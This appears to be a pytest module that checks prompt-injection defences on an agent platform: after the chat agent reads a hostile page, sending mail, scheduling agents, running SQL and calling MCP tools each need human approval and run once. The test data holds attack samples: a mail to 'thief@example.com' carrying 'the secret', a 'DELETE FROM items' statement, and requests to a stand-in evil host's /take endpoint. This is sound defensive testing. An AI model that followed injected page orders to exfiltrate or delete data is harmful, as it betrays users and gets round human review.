"""What leaves the site after a page that gives orders: each way asks, and an answer counts once (case 120)."""

from __future__ import annotations

import ssl
from collections.abc import Iterator
from typing import Any

import pytest
from pytest_django import Settings

from attack.outside import ask_for_password, listener
from chat.models import Session
from executions.credentials.actions import NewCredential, add_credential
from executions.credentials.secrets import PasswordSecret
from executions.models import Execution, Schedule
from executions.reviews.decisions import decide
from executions.schedules.run_due import run_due
from tests.blocks.adapters.smtp_server import MailServer, serve_mail
from tests.chat.engine.injected_page import (
    EvilSite,
    Send,
    approve,
    call,
    evil,
    go_on,
    obey,
    only_review,
    reject,
    send,
    sender,
)
from tests.executions.conftest import work_on
from tests.executions.people import import_valid, node
from tests.executions.schedules.conftest import let_due

__all__ = ["evil", "send"]
pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def mail_server(settings: Settings, monkeypatch: pytest.MonkeyPatch, evil: EvilSite) -> Iterator[MailServer]:
    """A server that takes every mail, without TLS as the operator allows it here."""
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    with serve_mail(MailServer(tls=tls, offers_tls=False, plain_login=True)) as server:
        address = f"127.0.0.1:{server.port}"
        settings.BOUNDARY_ALLOWED_HOSTS = [evil.address, address]
        settings.BOUNDARY_PLAINTEXT_HOSTS = [address]
        monkeypatch.setattr("blocks.catalog.send_email.PORTS", (server.port,))
        yield server


def give_login(session: Session, provider: str, port: int) -> None:
    assert session.user is not None
    secret = PasswordSecret(username="ann@example.com", password="right")
    add_credential(
        session.user,
        NewCredential(provider=provider, kind="user_password", secret=secret, host="127.0.0.1", port=port),
    )


@pytest.fixture
def mail(mail_server: MailServer, session: Session) -> dict[str, Any]:
    """What the Send Email block takes, for a person with a login at that server."""
    give_login(session, "smtp", mail_server.port)
    return {
        "to_email": "thief@example.com",
        "subject": "x",
        "body": "the secret",
        "config": {"smtp_server": "127.0.0.1", "smtp_port": mail_server.port},
    }


# --- mail -----------------------------------------------------------------------------------------


def test_a_mail_is_asked_for_and_sent_once_when_approved(
    send: Send, evil: EvilSite, mail: dict[str, Any], mail_server: MailServer
) -> None:
    answer = obey(send, evil, call("run_block", "mail", block_id="Send Email", input_data=mail))
    assert answer["type"] == "review_required", answer
    review = only_review()
    assert (review.outside_sources, review.data) == ([evil.address], mail)
    assert not mail_server.lines, "the server was reached before anybody approved"
    assert approve(answer, send)["type"] == "block_output"
    assert go_on(answer, send, "again")["type"] == "block_output"
    [message] = mail_server.messages
    assert "To: thief@example.com" in message


def test_a_rejected_mail_is_never_sent(
    send: Send, evil: EvilSite, mail: dict[str, Any], mail_server: MailServer
) -> None:
    answer = obey(send, evil, call("run_block", "mail", block_id="Send Email", input_data=mail))
    found = reject(answer, send)
    assert (found["type"], "No." in found["message"]) == ("error", True), found
    assert go_on(answer, send, "again")["type"] == "error"
    assert not mail_server.lines


@pytest.mark.parametrize(("approved", "mails"), [(True, 1), (False, 0)])
def test_an_agent_that_mails_asks_at_its_node(
    send: Send,
    session: Session,
    evil: EvilSite,
    mail: dict[str, Any],
    mail_server: MailServer,
    approved: bool,
    mails: int,
) -> None:
    assert session.user is not None
    agent = import_valid(
        session.user, {"name": "Mailer", "nodes": [node("mail", "Send Email", **mail)], "links": []}
    )
    obey(send, evil, call("run_agent", "run", library_agent_id=str(agent.pk), use_defaults=True))
    waiting = work_on(Execution.objects.get())
    review = only_review(execution=waiting)
    assert (waiting.public_status, review.outside_sources) == ("REVIEW", [evil.address])
    decide(review, approved=approved, by=session.user)
    done = work_on(work_on(waiting))
    assert done.status == ("COMPLETED" if approved else "FAILED"), done.error
    assert len(mail_server.messages) == mails


# --- schedules and other blocks -------------------------------------------------------------------


def test_an_approved_schedule_is_made_once(send: Send, session: Session, evil: EvilSite) -> None:
    agent = sender(session, evil)
    order = call("run_agent", "plan", library_agent_id=str(agent.pk), cron="0 9 * * *", use_defaults=True)
    answer = obey(send, evil, order)
    assert approve(answer, send)["status"] == "SCHEDULED"
    assert go_on(answer, send, "again")["error"] == "already_done"
    schedule = Schedule.objects.get()
    let_due(schedule)
    execution = run_due(schedule.pk)
    assert execution is not None
    assert work_on(execution).status == "COMPLETED", "what the person approved runs without asking again"
    assert evil.heard == ["GET /page", "POST /take"]


def test_a_rejected_schedule_is_not_made(send: Send, session: Session, evil: EvilSite) -> None:
    agent = sender(session, evil)
    order = call("run_agent", "plan", library_agent_id=str(agent.pk), cron="0 9 * * *", use_defaults=True)
    assert reject(obey(send, evil, order), send)["error"] == "not_approved"
    assert not Schedule.objects.exists()


def test_a_statement_that_changes_a_database_is_asked_for(
    send: Send, session: Session, evil: EvilSite, settings: Settings
) -> None:
    with listener(ask_for_password, 0) as database:
        address = f"127.0.0.1:{database.port}"
        settings.BOUNDARY_ALLOWED_HOSTS = [evil.address, address]
        settings.BOUNDARY_PLAINTEXT_HOSTS = [address]
        give_login(session, "database", database.port)
        query = {
            "host": "127.0.0.1",
            "port": database.port,
            "database": "shop",
            "query": "DELETE FROM items",
            "read_only": False,
        }
        answer = obey(send, evil, call("run_block", "sql", block_id="SQL Query", input_data=query))
        assert answer["type"] == "review_required", answer
        assert (only_review().outside_sources, database.connections) == ([evil.address], 0)
        approve(answer, send)
        assert database.connections == 1, "only the approved statement reaches the server"
        assert go_on(answer, send, "again")["type"] == "error", (
            "its server let nobody in, which is an answer too"
        )
        assert database.connections == 1


def test_a_call_of_an_mcp_server_is_asked_for(send: Send, evil: EvilSite) -> None:
    inputs = {
        "server_url": f"http://{evil.address}/mcp",
        "selected_tool": "tell",
        "tool_arguments": {"it": "x"},
    }
    answer = obey(send, evil, call("run_block", "mcp", block_id="MCP Tool", input_data=inputs))
    assert answer["type"] == "review_required", answer
    assert (only_review().outside_sources, evil.heard) == ([evil.address], ["GET /page"])
    reject(answer, send)
    assert evil.heard == ["GET /page"]
